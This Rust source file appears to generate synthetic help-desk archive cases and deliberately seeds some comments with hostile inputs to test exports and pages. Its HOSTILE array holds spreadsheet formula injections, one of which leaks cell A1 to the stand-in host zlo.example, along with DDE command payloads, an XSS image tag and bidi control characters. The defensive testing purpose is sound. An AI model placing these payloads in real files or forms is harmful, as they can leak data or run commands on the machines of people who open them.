//! What archived appeals were about: cases told again and again, with what was noted and written by SMS.
//!
//! Owns: the texts, hostile ones among them: a spreadsheet, a page and a report must bear whatever a person types.
//! Never: who came, or when.

use crate::cast::Cast;
use crate::gist::Gist;
use crate::staff::{Ending, Queue};
use desk_contract::automation::{Conditions, Rule};
use desk_contract::directory::Directory;
use desk_contract::history::Direction;
use desk_contract::id::TopicId;

/// What the automatic action of those months wrote after a call.
pub(super) const AFTER_A_CALL: &str = "«Домолад»: спасибо за звонок! Оцените разговор: domolad.example/otzyv";
/// What an operator answers by SMS, of which one holds little.
const BY_SMS: [&str; 5] = [
    "Заказ {order} передан курьеру, привезём {day}. Домолад",
    "Деньги за заказ {order} ({refund} ₽) вернули, банк зачислит за 3–10 дней. Домолад",
    "Товар арт. {article} есть на складе, отложили до вечера. Домолад",
    "Адрес изменили: {town}, ул. {street}, {house}. Домолад",
    "=СУММ({refund};{order}) — столько к возврату по заказу {order}. Домолад",
];
/// What somebody noted in whom a spreadsheet, a reader of CSV or a page would find something to run or to break on.
const HOSTILE: [&str; 12] = [
    "=HYPERLINK(\"http://zlo.example/?\"&A1;\"Нажмите\")",
    "=cmd|' /C calc'!A0",
    "+7 974 000-00-00 — звонить только сюда",
    "-5 % обещали на следующий заказ",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "Сказал: «всё; спасибо, \"до свидания\"»; перезвонить",
    "Первая строка\nвторая строка\r\nтретья; с точкой с запятой",
    "<img src=x onerror=alert(1)> просит «<b>жирный</b>» чек",
    "שלום, ההזמנה הגיעה 📦 — письмо на иврите, перевести",
    "\u{202e}перевёрнуто\u{202c} и \u{200b}невидимо 👩‍👩‍👧‍👦",
    "Оченьдлинноесловобезединогопробелакотороенепереноситсяинеломаетсятаблицапотомучтоклиентнажимаетнабукваиникогданенажимаетпробел",
];
/// One matter in so many is noted so.
const HOSTILE_ONE_IN: usize = 40;
/// As many matters as are told one archive through.
const FEWEST: u32 = 240;
const MOST: u32 = 3_000;

/// A matter that clients come with.
#[derive(Debug)]
pub(super) struct Matter {
    /// The number of its case.
    pub(super) case: u64,
    pub(super) queue: Queue,
    /// None for an advertisement.
    pub(super) ending: Option<Ending>,
    /// What it is about at large, by the place in the directory, and more closely.
    pub(super) topic: Option<u8>,
    pub(super) under: Vec<u8>,
    pub(super) comment: String,
    pub(super) sms: String,
}

/// Every matter of an archive that large.
pub(super) fn all(cast: Cast<'_>, count: u32) -> Vec<Matter> {
    let many = (count / 8).clamp(FEWEST, MOST) as usize;
    (0..many).map(|place| matter(cast, place)).collect()
}

fn matter(cast: Cast<'_>, place: usize) -> Matter {
    let case = place as u64;
    let gist = Gist::of(cast.seed.of("archive"), case);
    let topic = gist.about.topic.and_then(|nth| {
        let above = cast.directory.topics.iter().enumerate().filter(|(_, topic)| topic.parent.is_none());
        above.map(|(place, topic)| (place, topic.id)).nth(nth.into())
    });
    let hostile = HOSTILE[place / HOSTILE_ONE_IN % HOSTILE.len()];
    let comment =
        if place % HOSTILE_ONE_IN == HOSTILE_ONE_IN - 1 { hostile.to_owned() } else { gist.told_comment() };
    Matter {
        case,
        queue: gist.about.queue,
        ending: gist.ending(),
        topic: topic.and_then(|(place, _)| u8::try_from(place).ok()),
        under: topic.map(|(_, id)| under(cast, id)).unwrap_or_default(),
        // As the rules keep a comment.
        comment: comment.trim().to_owned(),
        sms: gist.told(BY_SMS[place % BY_SMS.len()]),
    }
}

/// The topics that hang on one.
fn under(cast: Cast<'_>, above: TopicId) -> Vec<u8> {
    let topics = (0_u8..).zip(&cast.directory.topics);
    topics.filter(|(_, topic)| topic.parent == Some(above)).map(|(place, _)| place).collect()
}

/// The group of a queue, by the place in the directory.
pub(super) fn group(queue: Queue) -> u8 {
    queue as u8
}

/// The desk of those months: its automatic action said the same to everybody.
pub(super) fn as_it_was(directory: &Directory) -> Directory {
    let conditions =
        Conditions { directions: vec![Direction::Incoming], only_answered: true, ..Conditions::default() };
    let known = directory.rules.first();
    let rule = known.and_then(|rule| {
        Some(Rule { is_on: true, conditions, text: AFTER_A_CALL.parse().ok()?, ..rule.clone() })
    });
    Directory { rules: rule.into_iter().collect(), ..directory.clone() }
}
